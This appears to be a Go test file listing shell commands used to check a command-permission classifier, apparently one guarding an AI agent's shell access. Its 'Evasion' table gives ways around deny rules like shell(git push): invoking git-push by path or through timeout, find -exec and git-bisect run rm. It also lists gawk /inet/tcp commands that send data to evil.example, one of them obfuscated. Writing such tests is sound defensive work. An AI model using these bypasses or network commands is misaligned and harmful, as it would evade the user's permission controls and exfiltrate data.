package effectstest

const gitSignatures = "git-log, PRETTY FORMATS; git-for-each-ref: signatures are checked by a program"

// gitSigned: git commands that run gpg or ssh-keygen to check a signature.
var gitSigned = []Trick{
	{"git log --show-signature", gitSignatures},
	{"git show --show-signature HEAD", gitSignatures},
	{"git log --format=%G?", gitSignatures},
	{"git log --format='%h %GK' -3", gitSignatures},
	{"git log --pretty=format:%+GS", gitSignatures},
	{"git log --pretty='%-GG'", gitSignatures},
	{"git show '--format=% GF' HEAD", gitSignatures},
	{"git for-each-ref --format='%(signature)'", gitSignatures},
	{"git for-each-ref --format '%(*signature:grade)'", gitSignatures},
	{"git for-each-ref --sort=signature", gitSignatures},
	{"git branch --sort -signature:key", gitSignatures},
	{"git tag -l --format='%(signature:signer)'", gitSignatures},
	{"git verify-commit HEAD", "man git-verify-commit"},
	{"git verify-tag v1", "man git-verify-tag"},
}

const gitCore = "git(1): the subcommands are programs of their own in the folder of git --exec-path"

// deniedGitPrograms are subcommands of git that are run as programs.
var deniedGitPrograms = []Evasion{
	{"shell(git push)", "/usr/lib/git-core/git-push origin", gitCore},
	{"shell(git push)", "git-push origin", gitCore},
	{"shell(git push)", "/usr/lib/git-core/git push", gitCore},
	{"shell(git)", "git-push", gitCore},
	{"shell(git:*)", "/usr/lib/git-core/git-push", gitCore},
	{"shell(git stash drop)", "git-stash drop", gitCore},
	{"shell(git push)", "timeout 5 git-push", gitCore},
	{"shell(git push)", "find . -exec git-push {} +", gitCore},
	{"shell(git remote add)", "/usr/libexec/git-core/git-remote add x y", gitCore},
	{noRm, "git-bisect run rm x", gitCore},
	{noEvil, "awk 1 /inet/tcp/0/evil.example/80", gawkNetwork},
	{noEvil, "gawk 1 a.txt /inet4/tcp/0/evil.example/80", gawkNetwork},
	{noEvil, "awk '{print}' /inet6/udp/0/evil.example/80", gawkNetwork},
	{noEvil, "awk '{print > \"/inet/tcp/0/evil.example/80\"}' a", gawkNetwork},
	{noEvil, "awk -v a=/inet/tcp/0/evil.example/80 1 a", gawkNetwork},
	{noEvil, "awk -v a=/inet 'BEGIN{ARGV[1]=a \"/tcp/0/evil.example/80\"; ARGC=2} 1'", gawkNetwork},
}

const gawkNetwork = "gawk manual, Using gawk for Network Programming: /inet/tcp/0/host/port"
